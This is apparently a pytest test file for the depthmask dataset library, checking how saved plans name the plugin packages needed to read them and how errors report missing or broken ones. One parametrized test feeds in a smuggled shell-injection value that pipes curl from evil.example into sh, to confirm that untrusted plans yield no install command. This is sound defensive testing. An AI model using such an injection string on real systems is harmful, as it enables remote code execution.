"""A dataset names the packages that it needs; no more than its writer is needed to read it."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

import depthmask
from depthmask.storage.location import location
from depthmask.storage.publish import require_sealed, write_sealed
from tests.support.paths import ROOT
from tests.support.plugins import install_package, run_with_plugins, write_plugin

PACKAGES = ROOT / "tests" / "plugins_of_0_1_0"
STAGES = ("placement=old_placement", "source=old_source", "writer=old_writer")
WORDS = (*STAGES, "geometry=none", "depth=none", "size=[32,48]", "samples=4", "shard_size=2")
INSTALL = "pip install 'depthmask-old-writer==0.1.0'"


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A dataset, in a folder with `site`, whose three stages come from three packages."""
    folder = tmp_path_factory.mktemp("needs")
    for package in PACKAGES.iterdir():
        install_package(package, folder / "site")
    command = (*WORDS, "output=out", "runner.workers=1")
    done = run_with_plugins(folder / "site", "depthmask", *command, cwd=folder)
    assert done.returncode == 0, done.stderr
    return folder / "out"


def site_of(folder: Path, *names: str) -> Path:
    """A folder with some of the packages, installed."""
    (folder / "site").mkdir()
    for name in names:
        install_package(PACKAGES / f"depthmask-old-{name}", folder / "site")
    return folder / "site"


def error(site: Path, *words: str, code: int = 2, **env: str) -> str:
    """The one line of a command that fails, without `error: `."""
    done = run_with_plugins(site, "depthmask", *words, cwd=None, **env)
    assert done.returncode == code, done.stderr
    (line,) = [line for line in done.stderr.splitlines() if not line.startswith("warning: ")]
    assert line.startswith("error: ")
    return line.removeprefix("error: ")


def before_packages(made: Path, folder: Path) -> Path:
    """A copy of the dataset with a plan that names no packages, as earlier versions wrote it."""
    copy = location(shutil.copytree(made, folder / "early"))
    plan = require_sealed(copy / "plan.json")
    del plan["packages"], plan["pixel_versions"]
    write_sealed(copy / "plan.json", plan)
    return Path(str(copy))


def test_the_plan_names_the_package_of_each_stage(made: Path) -> None:
    plan = json.loads((made / "plan.json").read_bytes())
    assert plan["packages"] == {
        f"{kind}=old_{kind}": f"depthmask-old-{kind}" for kind in ("source", "placement", "writer")
    }
    assert plan["versions"]["depthmask-old-writer"] == "0.1.0"


def test_an_absent_writer(made: Path) -> None:
    with pytest.raises(depthmask.UsageError) as caught:
        depthmask.open(made)
    assert str(caught.value) == (
        f"{made}/plan.json: writer=old_writer is in the package depthmask-old-writer 0.1.0, which "
        f"is not installed: `{INSTALL}`"
    )


def test_a_blocked_writer(made: Path, tmp_path: Path) -> None:
    site = site_of(tmp_path, "writer")
    for name in ("old_writer", "depthmask-old-writer"):
        line = error(site, "report", str(made), DEPTHMASK_BLOCK=name)
        assert line.endswith(
            "writer=old_writer is in the package depthmask-old-writer 0.1.0, but "
            f"DEPTHMASK_BLOCK={name} leaves it out"
        )


def test_a_broken_writer(made: Path, tmp_path: Path) -> None:
    site = site_of(tmp_path, "writer")
    module = next((site / "depthmask_old_writer").glob("old*.py"))
    module.write_text(f"{module.read_text()}\nimport no_such_library\n")
    assert error(site, "report", str(made)).endswith(
        "writer=old_writer is in the package depthmask-old-writer 0.1.0, which cannot be loaded: "
        "ModuleNotFoundError: No module named 'no_such_library'"
    )


def test_a_writer_that_another_version_lacks(made: Path, tmp_path: Path) -> None:
    site = site_of(tmp_path, "writer")
    module = next((site / "depthmask_old_writer").glob("old*.py"))
    module.write_text(module.read_text().replace('@stage("old_writer")', '@stage("new_writer")'))
    (info,) = site.glob("*.dist-info")
    metadata = (info / "METADATA").read_text().replace("0.1.0", "2.0")
    (info / "METADATA").write_text(metadata)
    assert error(site, "report", str(made)).endswith(
        "writer=old_writer is in the package depthmask-old-writer 0.1.0; 2.0 is installed and does "
        f"not have it: `{INSTALL}`"
    )


def test_a_plan_that_names_no_packages(made: Path, tmp_path: Path) -> None:
    early = before_packages(made, tmp_path)
    with pytest.raises(depthmask.UsageError, match="writer=old_writer is in one of these") as some:
        depthmask.open(early)
    assert INSTALL in str(some.value)
    assert "depthmask-old-source 0.1.0, which is not installed" in str(some.value)
    site = site_of(tmp_path, "source", "placement")
    assert error(site, "report", str(early)).endswith(
        "writer=old_writer is in the package depthmask-old-writer 0.1.0, which is not installed: "
        f"`{INSTALL}`"
    )


@pytest.mark.parametrize("name", ["x' && curl evil.example | sh; '", "-r evil.txt", ""])
def test_a_plan_from_elsewhere_makes_no_command(made: Path, tmp_path: Path, name: str) -> None:
    copy = location(shutil.copytree(made, tmp_path / "copy"))
    plan = require_sealed(copy / "plan.json")
    plan["packages"]["writer=old_writer"] = name
    plan["versions"][name] = "1.0"
    write_sealed(copy / "plan.json", plan)
    with pytest.raises(depthmask.UsageError, match="no name of a package") as caught:
        depthmask.open(str(copy))
    assert "pip" not in str(caught.value)


@pytest.mark.parametrize(
    "packages", [None, [], {"writer=old_writer": ["x"]}, {"writer=old_writer": "y"}]
)
def test_a_plan_with_nonsense_is_one_line(made: Path, tmp_path: Path, packages: object) -> None:
    copy = location(shutil.copytree(made, tmp_path / "copy"))
    plan = require_sealed(copy / "plan.json")
    write_sealed(copy / "plan.json", {**plan, "packages": packages})
    with pytest.raises(depthmask.DepthmaskError, match=r"plan\.json"):
        depthmask.open(str(copy))


def test_the_writer_is_all_that_readers_need(made: Path, tmp_path: Path) -> None:
    site = site_of(tmp_path, "writer")
    out = tmp_path / "out"
    shutil.copytree(made, out)
    for words in (
        ("verify", "out"),
        ("stats", "out"),
        ("report", "out"),
        ("convert", "out", "writer=zip", "output=zip"),
        ("annotate", "out", "depth=fastdepth", "writer=zip", "output=annotated"),
    ):
        done = run_with_plugins(site, "depthmask", *words, cwd=tmp_path)
        assert done.returncode == 0, done.stderr
    assert "placement=old_placement" in (out / "report.html").read_text()
    assert len(depthmask.open(tmp_path / "zip")) == 4
    plan = json.loads((tmp_path / "zip" / "plan.json").read_bytes())
    assert plan["packages"] == {}
    assert list(plan["pixel_versions"]) == ["depthmask", "writer=zip"]


def test_statistics_need_no_writer(made: Path, tmp_path: Path) -> None:
    done = run_with_plugins(site_of(tmp_path), "depthmask", "stats", str(made))
    assert done.returncode == 0
    assert "4 samples of 32x48" in done.stdout


@pytest.mark.parametrize(
    "words",
    [
        ("render", "--index", "1"),
        ("verify", "--repair"),
        ("annotate", "depth=layered", "geometry=source", "writer=zip"),
    ],
)
def test_what_makes_samples_names_the_package_of_the_stage_that_it_needs(
    made: Path, tmp_path: Path, words: tuple[str, ...]
) -> None:
    site = site_of(tmp_path, "writer", "source")
    copy = Path(shutil.copytree(made, tmp_path / "copy"))
    (copy / "shards" / "train-000001.bin").rename(tmp_path / "aside")
    command, *more = words
    if command == "annotate":
        (tmp_path / "aside").rename(copy / "shards" / "train-000001.bin")
    assert error(site, command, str(copy), *more).endswith(
        "placement=old_placement is in the package depthmask-old-placement 0.1.0, which is not "
        "installed: `pip install 'depthmask-old-placement==0.1.0'`"
    )


@pytest.mark.parametrize("where", ["old_writer", "depthmask-old-writer"])
def test_a_blocked_stage_on_the_command_line(tmp_path: Path, where: str) -> None:
    site = site_of(tmp_path, "writer")
    assert error(site, "writer=old_writer", DEPTHMASK_BLOCK=where) == (
        "writer=old_writer: no such writer; plugin old_writer (depthmask-old-writer 0.1.0) is "
        f"disabled: DEPTHMASK_BLOCK={where} leaves it out"
    )


def test_a_broken_stage_on_the_command_line(tmp_path: Path) -> None:
    write_plugin(tmp_path, "depthmask_mine", "1.0", "import no_such_library")
    line = error(tmp_path, "writer=mine")
    assert line.startswith("writer=mine: no such writer; plugin depthmask_mine (depthmask_mine 1.0")
    assert line.endswith("is disabled: ModuleNotFoundError: No module named 'no_such_library'")
    assert "available: " in error(tmp_path, "writer=other")
    assert "no_such_library" in error(tmp_path, "blend=several", "blend.of=[mine]")


def test_the_cards_say_what_reads_the_dataset(made: Path) -> None:
    assert f"```sh\n{INSTALL}\n```" in (made / "README.md").read_text()
    written = f"written by depthmask {depthmask.__version__} and depthmask-old-writer 0.1.0."
    assert written in (made / "README.md").read_text()
    assert written in json.loads((made / "croissant.json").read_text())["description"]
